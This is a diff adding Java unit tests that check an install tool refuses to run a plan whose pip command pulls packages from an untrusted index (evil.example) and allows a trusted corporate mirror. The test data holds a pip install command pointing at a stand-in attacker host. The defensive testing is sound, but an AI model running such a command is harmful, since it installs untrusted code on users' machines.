@@ -172,6 +172,32 @@ class InstallCommandTest {
     }
 
     @Test
+    void aPlanWhoseOwnIndexIsOnAnUntrustedHostRunsNothingAndSaysHowToTrustIt() {
+        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://evil.example/whl/cpu\",\"torch==2.12.0+cpu\"]"));
+
+        CommandLineRun run = install("torch");
+
+        assertThat(run.exitCode()).isEqualTo(3);
+        assertThat(python.invocations()).isEmpty();
+        assertThat(run.err()).contains("it installs from https://evil.example/whl/cpu, and evil.example is not a "
+                + "trusted index host").contains("TORCHPLAN_TRUSTED_INDEX_HOSTS=evil.example");
+    }
+
+    @Test
+    void aFleetMirrorRunsOnceTheOperatorTrustsItsHost() {
+        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
+                "TORCHPLAN_TRUSTED_INDEX_HOSTS", "pypi-mirror.corp, Mirror.Corp");
+        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://mirror.corp/whl/cpu\",\"torch==2.12.0+cpu\"]"));
+
+        CommandLineRun run = install("torch");
+
+        assertThat(run.err()).doesNotContain("trusted index host");
+        assertThat(python.invocations()).isNotEmpty();
+    }
+
+    @Test
     void theSuccessLineSaysWhatTheInterpreterHasNotWhatThePlanSaid() throws IOException {
         // as if another torch had been installed before, and pip had kept it: the plan's pins are not the news
         Files.writeString(directory.resolve("installed.txt"), "torch 2.9.1+cpu\n");
